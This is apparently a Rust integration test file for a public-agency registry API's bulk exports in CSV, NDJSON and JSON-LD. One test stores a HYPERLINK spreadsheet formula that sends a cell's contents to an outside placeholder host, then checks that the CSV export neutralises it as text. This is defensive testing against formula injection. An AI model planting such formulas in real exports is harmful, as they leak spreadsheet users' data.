//! Bulk exports: whole datasets as CSV (read back with the csv crate) or
//! NDJSON, the same facts the JSON API gives, tagged, and as known at a
//! moment.

use std::collections::BTreeMap;

use reqwest::StatusCode;
use serde_json::{json, Value};

use crate::helpers::*;

/// Asserts that a browser saves the export as `{dataset}-{day}.{extension}`.
fn assert_export_file(response: &reqwest::Response, dataset: &str, extension: &str) {
    let disposition = header(response, "content-disposition");
    let name = disposition
        .strip_prefix(&format!("inline; filename=\"{dataset}-"))
        .and_then(|rest| rest.strip_suffix(&format!(".{extension}\"")))
        .unwrap_or_else(|| panic!("{disposition}"));
    assert!(name.parse::<chrono::NaiveDate>().is_ok(), "{disposition}");
}

/// The rows of a CSV export, each a map from column to value.
async fn csv_rows(app: &TestApp, path: &str) -> Vec<BTreeMap<String, String>> {
    let response = app.get(path).await;
    assert_eq!(response.status(), StatusCode::OK, "{path}");
    assert_eq!(
        header(&response, "content-type"),
        "text/csv; charset=utf-8; header=present"
    );
    let dataset = path
        .trim_start_matches("/v1/exports/")
        .split('?')
        .next()
        .unwrap();
    assert_export_file(&response, dataset, "csv");
    let text = response.text().await.unwrap();
    assert!(text.ends_with("\r\n"), "CRLF line ends");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    reader
        .deserialize()
        .collect::<Result<Vec<BTreeMap<String, String>>, _>>()
        .unwrap_or_else(|error| panic!("{path}: {error}"))
}

fn column<'a>(rows: &'a [BTreeMap<String, String>], slug: &str, column: &str) -> &'a str {
    let row = rows
        .iter()
        .find(|row| row["slug"] == slug)
        .unwrap_or_else(|| panic!("no row {slug}"));
    &row[column]
}

#[tokio::test]
async fn the_assignments_export_says_who_held_what_on_the_day_as_the_json_api_does() {
    let app = TestApp::spawn().await;
    for at in ["2017-12-31", "2018-01-01"] {
        let rows = csv_rows(&app, &format!("/v1/exports/assignments?at={at}")).await;
        let listed = app
            .all_pages(&format!("/v1/assignments?at={at}"), 100)
            .await;
        assert_eq!(rows.len(), listed.len(), "{at}: one row an assignment");
        for assignment in &listed {
            let slug = assignment["slug"].as_str().unwrap();
            let holder = assignment["holder"]["slug"].as_str().unwrap_or("");
            assert_eq!(column(&rows, slug, "holder_slug"), holder, "{at} {slug}");
            assert_eq!(
                column(&rows, slug, "title_sv"),
                assignment["title"]["sv"],
                "{slug}"
            );
            assert_eq!(
                column(&rows, slug, "status"),
                assignment["status"],
                "{slug}"
            );
        }
        let holder = app.holder_slug(NATIONAL, at).await;
        assert_eq!(column(&rows, NATIONAL, "holder_slug"), holder, "{at}");
    }
    let rows = csv_rows(&app, "/v1/exports/assignments?at=2018-01-01").await;
    assert_eq!(
        column(&rows, NATIONAL, "holder_slug"),
        GENDER_EQUALITY_AGENCY
    );
    assert_eq!(column(&rows, NATIONAL, "held_from"), "2018-01-01");
}

#[tokio::test]
async fn the_agencies_export_has_every_agency_with_its_name_and_status_on_the_day() {
    let app = TestApp::spawn().await;
    let rows = csv_rows(&app, "/v1/exports/agencies?at=2017-06-01").await;
    let listed = app.all_pages("/v1/agencies?at=2017-06-01", 100).await;
    assert_eq!(rows.len(), listed.len());
    for agency in &listed {
        let slug = agency["slug"].as_str().unwrap();
        assert_eq!(
            column(&rows, slug, "name_sv"),
            agency["name"]["sv"],
            "{slug}"
        );
        assert_eq!(column(&rows, slug, "status"), agency["status"], "{slug}");
    }
    assert_eq!(
        column(&rows, GENDER_EQUALITY_AGENCY, "status"),
        "not_started"
    );
    let slugs: Vec<&str> = rows.iter().map(|row| row["slug"].as_str()).collect();
    let mut sorted = slugs.clone();
    sorted.sort_unstable();
    assert_eq!(slugs, sorted, "rows in slug order");
}

#[tokio::test]
async fn holdings_as_ndjson_are_the_assignments_history_a_line_each() {
    let app = TestApp::spawn().await;
    let response = app
        .get_with("/v1/exports/holdings", "accept", "application/x-ndjson")
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(header(&response, "content-type"), "application/x-ndjson");
    assert_export_file(&response, "holdings", "ndjson");
    let text = response.text().await.unwrap();
    let holdings: Vec<Value> = text
        .lines()
        .map(|line| serde_json::from_str(line).expect("a JSON object a line"))
        .collect();
    assert_eq!(holdings.len() as i64, app.count("holdings").await);
    let national: Vec<(&str, &str, &str)> = holdings
        .iter()
        .filter(|holding| holding["assignment_slug"] == NATIONAL)
        .map(|h| {
            let from = h["valid_from"].as_str().unwrap_or("");
            let to = h["valid_to"].as_str().unwrap_or("");
            (h["agency_slug"].as_str().unwrap(), from, to)
        })
        .collect();
    let history = app.assignment_history(NATIONAL).await;
    let holders: Vec<&str> = history["holders"]
        .as_array()
        .unwrap()
        .iter()
        .map(|holding| holding["agency"]["slug"].as_str().unwrap())
        .collect();
    assert_eq!(national.iter().map(|h| h.0).collect::<Vec<_>>(), holders);
    assert_eq!(
        national.last().unwrap(),
        &(GENDER_EQUALITY_AGENCY, "2018-01-01", "")
    );
    let transfer = holdings
        .iter()
        .find(|h| h["assignment_slug"] == NATIONAL && h["agency_slug"] == GENDER_EQUALITY_AGENCY)
        .unwrap();
    assert_eq!(transfer["started_by_transfer"], TRANSFER);
}

#[tokio::test]
async fn the_contact_points_export_has_the_hotline_of_the_assignment() {
    let app = TestApp::spawn().await;
    let response = app.get("/v1/exports/contact-points?format=csv").await;
    let text = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let rows: Vec<BTreeMap<String, String>> = reader.deserialize().map(Result::unwrap).collect();
    assert_eq!(rows.len() as i64, app.count("contact_points").await);
    let hotline = rows
        .iter()
        .find(|row| row["kind"] == "hotline" && row["assignment_slug"] == SUPPORT_PROCESS)
        .expect("the hotline");
    assert_eq!(hotline["value"], "020-390 000");
    assert_eq!(hotline["agency_slug"], "");
    let address = rows
        .iter()
        .find(|row| row["value"] == "Box 73, 424 22 Angered")
        .expect("an address with a comma, quoted");
    assert_eq!(address["agency_slug"], GENDER_EQUALITY_AGENCY);
}

#[tokio::test]
async fn a_csv_cell_that_a_spreadsheet_would_run_as_a_formula_is_exported_as_text() {
    let app = TestApp::spawn().await;
    let token = app.writer().await;
    let formula = "=HYPERLINK(\"https://example.org/?\"&A1, \"Klicka här\")";
    let contact = app
        .created(
            "/v1/contact-points",
            &token,
            json!({
                "agency": GENDER_EQUALITY_AGENCY, "kind": "phone", "value": "+46 31 392 00 00",
                "label": {"sv": formula}, "source": SOURCE
            }),
        )
        .await;
    let id = contact["id"].as_str().unwrap();
    let rows = csv_rows(&app, "/v1/exports/contact-points").await;
    let row = rows.iter().find(|row| row["id"] == id).expect("the row");
    assert_eq!(row["label_sv"], format!("'{formula}"), "shown as text");
    assert_eq!(row["value"], "+46 31 392 00 00", "a number is left alone");

    let ndjson = app
        .get("/v1/exports/contact-points?format=ndjson")
        .await
        .text()
        .await
        .unwrap();
    let line: Value = ndjson
        .lines()
        .map(|line| serde_json::from_str::<Value>(line).unwrap())
        .find(|line| line["id"] == id)
        .expect("the line");
    assert_eq!(line["label_sv"], formula, "as written, for programs");
}

#[tokio::test]
async fn an_export_is_tagged_and_a_write_changes_its_tag_and_known_at_keeps_the_old_rows() {
    let app = TestApp::spawn().await;
    let path = "/v1/exports/agencies?at=2027-01-01";
    let first = app.get(path).await;
    let tag = header(&first, "etag");
    assert!(!tag.is_empty(), "an export has an ETag");
    let unchanged = app.get_with(path, "if-none-match", &tag).await;
    assert_eq!(unchanged.status(), StatusCode::NOT_MODIFIED);

    let then = app.now().await;
    let token = app.writer().await;
    app.created(
        "/v1/agencies",
        &token,
        json!({
            "slug": "exportverket", "name": {"sv": "Exportverket"}, "kind": "government_agency",
            "started_on": "2026-01-01", "source": SOURCE
        }),
    )
    .await;
    let changed = app.get_with(path, "if-none-match", &tag).await;
    assert_eq!(changed.status(), StatusCode::OK);
    assert_ne!(header(&changed, "etag"), tag);
    let rows = csv_rows(&app, path).await;
    assert_eq!(column(&rows, "exportverket", "name_sv"), "Exportverket");

    let known = csv_rows(&app, &format!("{path}&known_at={then}")).await;
    assert!(known.iter().all(|row| row["slug"] != "exportverket"));
    assert_eq!(known.len() + 1, rows.len());
}

#[tokio::test]
async fn an_unknown_dataset_is_404_and_json_is_not_an_export_format() {
    let app = TestApp::spawn().await;
    let problem = app
        .get_problem("/v1/exports/budgets", StatusCode::NOT_FOUND)
        .await;
    assert!(
        problem["detail"]
            .as_str()
            .unwrap()
            .contains("contact-points"),
        "{problem}"
    );
    for (accept, path) in [
        ("application/json", "/v1/exports/agencies"),
        ("*/*", "/v1/exports/agencies?format=xlsx"),
    ] {
        let response = app.get_with(path, "accept", accept).await;
        let problem = assert_problem(response, StatusCode::NOT_ACCEPTABLE, path).await;
        assert!(
            problem["detail"].as_str().unwrap().contains("text/csv"),
            "{problem}"
        );
    }
}

#[tokio::test]
async fn an_export_as_linked_data_is_one_document_with_a_node_a_row() {
    let app = TestApp::spawn().await;
    let response = app
        .get_with("/v1/exports/holdings", "accept", "application/ld+json")
        .await;
    assert_eq!(response.status(), StatusCode::OK);
    assert_eq!(header(&response, "content-type"), "application/ld+json");
    assert_export_file(&response, "holdings", "jsonld");
    let document: Value = response.json().await.unwrap();
    assert_eq!(
        document["@context"],
        format!("{}/v1/context.jsonld", app.address)
    );
    let graph = document["@graph"].as_array().unwrap();
    assert_eq!(graph.len() as i64, app.count("holdings").await);
    let history = app.assignment_history(NATIONAL).await;
    let national = format!(
        "{}/v1/assignments/{}",
        app.address,
        history["assignment"]["id"].as_str().unwrap()
    );
    let holders: Vec<&Value> = graph
        .iter()
        .filter(|node| node["assignment"] == national.as_str())
        .map(|node| &node["holder"])
        .collect();
    let expected: Vec<String> = history["holders"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| {
            format!(
                "{}/v1/agencies/{}",
                app.address,
                h["agency"]["id"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(holders, expected.iter().collect::<Vec<_>>());
    let contacts: Value = app
        .get("/v1/exports/contact-points?format=jsonld")
        .await
        .json()
        .await
        .unwrap();
    let hotline = contacts["@graph"]
        .as_array()
        .unwrap()
        .iter()
        .find(|node| node["contactType"] == "hotline")
        .expect("the hotline");
    assert_eq!(hotline["@type"], "ContactPoint");
    assert_eq!(hotline["telephone"], "020-390 000");
}

/// Runs `registry export ARGUMENTS` on the test's database, its standard
/// output piped.
fn export_command(app: &TestApp, arguments: &[&str]) -> std::process::Child {
    std::process::Command::new(env!("CARGO_BIN_EXE_registry"))
        .arg("export")
        .args(arguments)
        .env("DATABASE_URL", app.database_url())
        .env("LOAD_NATIONAL_DATA", "false")
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("registry export runs")
}

#[tokio::test]
async fn the_export_command_writes_what_the_endpoint_answers_and_stops_quietly_when_its_reader_does(
) {
    let app = TestApp::spawn().await;
    for (dataset, format) in [("assignments", "csv"), ("holdings", "ndjson")] {
        let answered = app
            .get(&format!(
                "/v1/exports/{dataset}?format={format}&at=2017-06-01"
            ))
            .await
            .text()
            .await
            .unwrap();
        let written = export_command(&app, &[dataset, "--format", format, "--at", "2017-06-01"])
            .wait_with_output()
            .unwrap();
        assert_eq!(succeeded(&written), answered);
    }

    // A reader that has gone (`registry export … | head` after its lines)
    // ends the command with success and nothing on standard error.
    let mut closed = export_command(&app, &["agencies"]);
    drop(closed.stdout.take());
    let ended = closed.wait_with_output().unwrap();
    assert!(ended.status.success(), "{ended:?}");
    assert_eq!(String::from_utf8_lossy(&ended.stderr), "");
}

#[tokio::test]
async fn the_lineage_links_export_has_each_link_as_its_agencies_lineage_shows_it() {
    let app = TestApp::spawn().await;
    let token = app.writer().await;
    let empty = csv_rows(&app, "/v1/exports/lineage-links").await;
    assert!(
        empty.is_empty(),
        "the founding case has no lineage: {empty:?}"
    );
    let old = json!({
        "slug": "rikspolisstyrelsen", "kind": "government_agency",
        "name": {"sv": "Rikspolisstyrelsen"}, "ended_on": "2015-01-01", "source": SOURCE
    });
    app.created("/v1/agencies", &token, old).await;
    let link = json!({
        "predecessor": "rikspolisstyrelsen", "successor": "polismyndigheten",
        "kind": "merged_into", "effective_on": "2015-01", "source": SOURCE
    });
    let link = app.created("/v1/lineage-links", &token, link).await;

    let rows = csv_rows(&app, "/v1/exports/lineage-links").await;
    assert_eq!(rows.len(), 1, "{rows:?}");
    let row = &rows[0];
    assert_eq!(row["id"], link["id"].as_str().unwrap());
    let columns = |names: &[&str]| {
        names
            .iter()
            .map(|name| row[*name].as_str())
            .collect::<Vec<_>>()
    };
    assert_eq!(
        columns(&[
            "predecessor_slug",
            "successor_slug",
            "kind",
            "effective_on",
            "source"
        ]),
        [
            "rikspolisstyrelsen",
            "polismyndigheten",
            "merged_into",
            "2015-01",
            SOURCE
        ]
    );
    let police = app.get_json("/v1/agencies/polismyndigheten").await;
    assert_eq!(row["successor_id"], police["id"].as_str().unwrap());

    let document: Value = app
        .get("/v1/exports/lineage-links?format=jsonld")
        .await
        .json()
        .await
        .unwrap();
    let event = &document["@graph"][0];
    assert_eq!(event["@type"], "ChangeEvent");
    assert_eq!(
        event["resultingOrganization"],
        format!(
            "{}/v1/agencies/{}",
            app.address,
            police["id"].as_str().unwrap()
        )
    );
    assert_eq!(event["effectiveOn"]["@type"], "xsd:gYearMonth");
}
